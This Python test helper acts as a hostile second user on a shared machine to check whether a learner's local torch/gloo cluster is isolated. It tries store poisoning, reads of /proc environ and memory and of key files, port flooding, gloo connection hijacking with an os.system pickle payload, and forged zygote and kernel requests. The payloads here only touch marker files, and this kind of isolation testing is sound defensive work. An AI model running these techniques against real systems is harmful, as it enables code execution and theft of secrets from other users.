"""The other local user of a shared machine: run as that user by test_runtime_isolation.py.

    python isolation_attacker.py probe  < targets.json    # one JSON line: {attempt: result}
    python isolation_attacker.py flood N PORT... < stop    # holds connections until stdin closes
    python isolation_attacker.py hijack UID MARKER PID... < ports  # gloo pairs of new groups
    python isolation_attacker.py seqflood N PORT...        # N gloo hellos per port, then closed
    python isolation_attacker.py kernel MARKER SOCKET...   # ask a kernels' server for a kernel

`probe` tries every path into a learner's cluster that the test names (ports, files, pids,
names) and says of each "refused: why" or "GOT IN: what it got"; it never stops at the first
success. `flood` opens up to N idle connections to the given loopback ports (fewer if this
process's descriptor limit is lower), prints how many it holds (and how many were accepted),
and waits.

The gloo attacks (a local cluster's ranks talk over TCP listeners with no authentication; gloo
hands an incoming connection to whichever pair waits for the 8-byte sequence number it sends
first, and sequence numbers start at 0):
- `hijack` is told (on stdin, by the test, the moment it opens) the port of each new gloo
  listener of the learner's ranks: a real attacker finds them in /proc/net/tcp, with their
  owner's uid, but on a shared machine that table also lists other people's clusters, which
  this test must not touch. It connects to each at once and sends sequence numbers 0-3 on four
  connections, then answers whatever the rank sends with a pickle that would run a command as
  the learner (what `all_gather_object` would load); it says whether the port shows in its own
  /proc/net/tcp, and prints one JSON line at the end.
- `seqflood` sends N hellos nobody waits for (8 bytes each) to each port, closing each of its
  sockets: a rank used to keep every one for the life of its process group.
"""
import datetime
import json
import os
import secrets
import socket
import sys
import time


def _refused(exc: BaseException) -> str:
    return f"refused: {type(exc).__name__}: {str(exc).splitlines()[0][:160] if str(exc) else ''}"


def _store_over_tcp(ports: list) -> tuple:
    """(result, store) for torch's TCPStore protocol on each listening port, without a key.
    A client of a port that is not a store can wait in C++ for good: each try gets a thread
    and 3 s."""
    import threading
    import torch.distributed as dist
    why = []
    for port in ports:
        box = []

        def attempt():
            try:
                s = dist.TCPStore("127.0.0.1", port, None, False, wait_for_workers=False,
                                  timeout=datetime.timedelta(seconds=2))
                box.append((s, s.list_keys()))
            except Exception as exc:              # noqa: BLE001 - every failure is a refusal
                box.append((None, exc))
        t = threading.Thread(target=attempt, daemon=True)
        t.start()
        t.join(3.0)
        if not box:
            why.append(f"{port}: no store answer in 3 s")
        elif box[0][0] is None:
            why.append(f"{port}: {type(box[0][1]).__name__}")
        else:
            keys = box[0][1]
            return f"GOT IN: port {port} answers as a store, {len(keys)} keys: {keys[:4]}", box[0][0]
    return "refused: no port speaks the store protocol (" + ", ".join(why) + ")", None


def _read(path: str, what: str = "bytes") -> str:
    try:
        if os.path.isdir(path):
            return f"GOT IN: listed {len(os.listdir(path))} entries of {path}"
        with open(path, "rb") as f:
            data = f.read(4096)
        return f"GOT IN: read {len(data)} {what} of {path}"
    except OSError as exc:
        return _refused(exc)


def _control_hello(address) -> str:
    """The control socket's handshake with a key of our own (a local cluster's: a Unix socket
    in its folder; a port number: TCP)."""
    from multiprocessing.connection import answer_challenge, deliver_challenge
    from labkit.runtime import frames
    try:
        if isinstance(address, str):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect(address)
        else:
            s = socket.create_connection(("127.0.0.1", address), 5)
        conn = frames.Blocking(s)
        key = secrets.token_bytes(32)
        answer_challenge(conn, key)
        deliver_challenge(conn, key)
        return "GOT IN: the control port accepted a key of our own"
    except Exception as exc:                      # noqa: BLE001
        return _refused(exc)


def _ask(path: str, who: str, messages: list, answers: int) -> str:
    """Connect to a server of the learner's (a Unix socket), send `messages` ((bytes, fds) each)
    as its own clients do and read up to `answers` answers: what `who` answered, if anything."""
    import pickle
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        s.settimeout(10)
        s.connect(path)
        for data, fds in messages:
            socket.send_fds(s, [data], fds)
        got = []
        while len(got) < answers:
            data = s.recv(65536)
            if not data:
                break
            got.append(type(pickle.loads(data)).__name__)
        if got:
            return f"GOT IN: {who} answered {got}"
        return f"refused: {who} closed the connection without an answer"
    except Exception as exc:                      # noqa: BLE001
        return _refused(exc)
    finally:
        s.close()


def _zygote_fork(path: str) -> str:
    """Ask the learner's zygote for a rank as its notebooks do (labkit's Hello, then a fork
    request with a pipe)."""
    import pickle
    from labkit.runtime.local.userzygote import Hello
    _, w = os.pipe()
    hello = Hello(dict(os.environ), "/tmp", "/nonexistent", "/tmp", b"k", ())
    return _ask(path, "the zygote", [(pickle.dumps(hello), []), (b"fork", [w])], 2)


def kernel_fork(path: str, marker: str) -> str:
    """Ask the learner's kernels' server for a kernel as the launcher does (a KernelRequest with
    this process's fds 0-2), one that would write `marker` as the learner."""
    import pickle
    from labkit.runtime.local.kernels import KernelRequest
    code = f"open({marker!r}, 'w').write('GOT IN')"
    request = KernelRequest(["ipykernel_launcher", "-c", code], dict(os.environ), "/tmp",
                            list(sys.path), 0o022, ())
    return _ask(path, "the kernels' server", [(pickle.dumps(request), [0, 1, 2])], 1)


def probe(t: dict) -> dict:
    out = {}
    out["list and read the rendezvous store over TCP"], store = _store_over_tcp(t["ports"])
    gen = f"labkit/{t['next_gen']}/"
    if store is not None:                         # the old design: write the next generation
        try:
            import torch.distributed as dist
            dist.PrefixStore(gen, store).set("rank_0", b"127.0.0.1:1")
            out["poison the next generation's keys"] = f"GOT IN: wrote {gen}rank_0 over TCP"
        except Exception as exc:                  # noqa: BLE001
            out["poison the next generation's keys"] = _refused(exc)
    else:
        try:
            import torch.distributed as dist
            fs = dist.FileStore(t["store_path"], -1)
            dist.PrefixStore(gen, fs).set("rank_0", b"127.0.0.1:1")
            out["poison the next generation's keys"] = f"GOT IN: wrote {gen}rank_0 in the file"
        except Exception as exc:                  # noqa: BLE001
            out["poison the next generation's keys"] = _refused(exc)
    out["read the rendezvous file"] = _read(t["store_path"])
    try:
        with open(t["store_path"], "ab") as f:
            f.write(b"x")
        out["append to the rendezvous file"] = "GOT IN: appended a byte"
    except OSError as exc:
        out["append to the rendezvous file"] = _refused(exc)
    out["list the cluster's folder"] = _read(t["folder"])
    out["read a rank's stack file"] = _read(t["stack_file"])
    pid = t["rank_pid"]
    out["read a rank's environment (/proc)"] = _read(f"/proc/{pid}/environ")
    out["read a rank's memory (/proc)"] = _read(f"/proc/{pid}/mem")
    out["list a rank's descriptors (/proc)"] = _read(f"/proc/{pid}/fd")
    out["open a shared-memory tensor (/proc/PID/fd)"] = _read(t["shm_path"])
    out["read the key file"] = _read(t["key_file"])
    out["hello on the control socket with a key of our own"] = _control_hello(t["control"])
    out["list the learner's zygote folder"] = _read(t["zygote_folder"])
    out["ask the learner's zygote for a rank"] = _zygote_fork(t["zygote_socket"])
    out["the same through a link to its socket in an open folder"] = _zygote_fork(t["zygote_link"])
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(t["agent_name_guess"].encode("latin-1"))
        s.close()
        out["squat the node agent's socket name"] = (
            "bound the name guessed from public facts (uid, torchrun pid); " +
            ("GOT IN: it is the agent's name" if t["agent_name_guess"] == t["agent_name"]
             else "refused: the agent's name is not that one (it is derived from the key)"))
    except OSError as exc:
        out["squat the node agent's socket name"] = _refused(exc)
    return out


def flood(n: int, ports: list) -> None:
    """Open up to `n` idle connections round-robin over `ports` (stops at the descriptor limit
    or after 25 s)."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held, failed, t0 = [], 0, time.monotonic()
    while len(held) < n and time.monotonic() - t0 < 25 and failed < 200:
        s = None
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            s.connect_ex(("127.0.0.1", ports[len(held) % len(ports)]))
            held.append(s)
        except OSError:                           # EMFILE: as many as this process may hold
            if s is not None:
                s.close()
            failed += 1
            if len(held) >= hard - 16:
                break
    time.sleep(1.0)                               # let the handshakes finish (or be refused)
    accepted = 0
    for s in held:
        try:
            s.getpeername()
            accepted += 1
        except OSError:                           # refused: nothing listens there for us
            pass
    print(json.dumps({"held": len(held), "accepted": accepted,
                      "seconds": round(time.monotonic() - t0, 1)}), flush=True)
    sys.stdin.read()                              # hold them until the test is done
    for s in held:
        s.close()


def _listeners(tables: list, uid: int) -> set:
    """Ports listening in these /proc/.../net/tcp tables, owned by `uid`."""
    ports = set()
    for table in tables:
        try:
            with open(table) as f:
                lines = f.readlines()[1:]
        except OSError:
            continue
        for line in lines:
            cols = line.split()
            if cols[3] == "0A" and int(cols[7]) == uid:
                ports.add(int(cols[1].rsplit(":", 1)[1], 16))
    return ports


class _Payload:
    """Unpickled, it runs a command (here: it creates a file named by the test)."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def hijack(uid: int, pids: list, marker: str) -> None:
    """Told each new listener's port on stdin (one per line, as soon as it opens; EOF: done),
    connect to it at once with sequence numbers 0-3 and answer what the rank sends with a
    pickle. Also says whether each port shows in this user's own /proc/net/tcp."""
    import pickle
    import select
    own = ["/proc/net/tcp", "/proc/net/tcp6"]
    theirs = [f"/proc/{p}/net/{t}" for p in pids for t in ("tcp", "tcp6")]
    print(json.dumps({"their_tables_readable": [t for t in theirs if _can_read(t)]}), flush=True)
    told, visible, connected, refused, held = [], [], 0, [], []
    payload = pickle.dumps(_Payload(marker))
    stdin_open = True
    while stdin_open or held:
        ready = select.select([sys.stdin] if stdin_open else [], [], [], 0.002)[0]
        if ready:
            line = sys.stdin.readline()
            if not line:
                stdin_open = False
                break
            port = int(line)
            told.append(port)
            for seq in range(4):
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                try:
                    s.settimeout(1.0)
                    s.connect(("127.0.0.1", port))
                    s.sendall(seq.to_bytes(8, "little"))
                    s.setblocking(False)
                    held.append(s)
                    connected += 1
                except OSError as exc:
                    refused.append(f"{port}/{seq}: {type(exc).__name__}")
                    s.close()
            if port in _listeners(own, uid):
                visible.append(port)
        for s in select.select(held, [], [], 0)[0] if held else []:
            try:                                  # whatever the rank sends: answer with the pickle
                if s.recv(1 << 16):
                    s.send(payload)
            except OSError:
                pass
    print(json.dumps({"told": told, "visible_in_our_proc_net_tcp": visible,
                      "connected": connected, "refused": refused[:8]}), flush=True)
    for s in held:
        s.close()


def _can_read(path: str) -> bool:
    try:
        with open(path) as f:
            f.readline()
        return True
    except OSError:
        return False


def seqflood(n: int, ports: list) -> None:
    """n connections per port, each sending an 8-byte sequence number nobody waits for, then
    closed on this side."""
    accepted, refused, t0 = 0, 0, time.monotonic()
    for port in ports:
        for i in range(n):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                s.connect(("127.0.0.1", port))
                s.sendall(((1 << 40) + i).to_bytes(8, "little"))
                accepted += 1
            except OSError:
                refused += 1
            finally:
                s.close()
    print(json.dumps({"accepted": accepted, "refused": refused,
                      "seconds": round(time.monotonic() - t0, 1)}), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "probe":
        print(json.dumps(probe(json.loads(sys.stdin.read()))), flush=True)
        os._exit(0)                               # a store client stuck in C++ must not hold us
    elif sys.argv[1] == "hijack":
        hijack(int(sys.argv[2]), [int(p) for p in sys.argv[4:]], sys.argv[3])
    elif sys.argv[1] == "kernel":
        print(json.dumps({path: kernel_fork(path, sys.argv[2]) for path in sys.argv[3:]}), flush=True)
    elif sys.argv[1] == "seqflood":
        seqflood(int(sys.argv[2]), [int(p) for p in sys.argv[3:]])
    else:
        flood(int(sys.argv[2]), [int(p) for p in sys.argv[3:]])
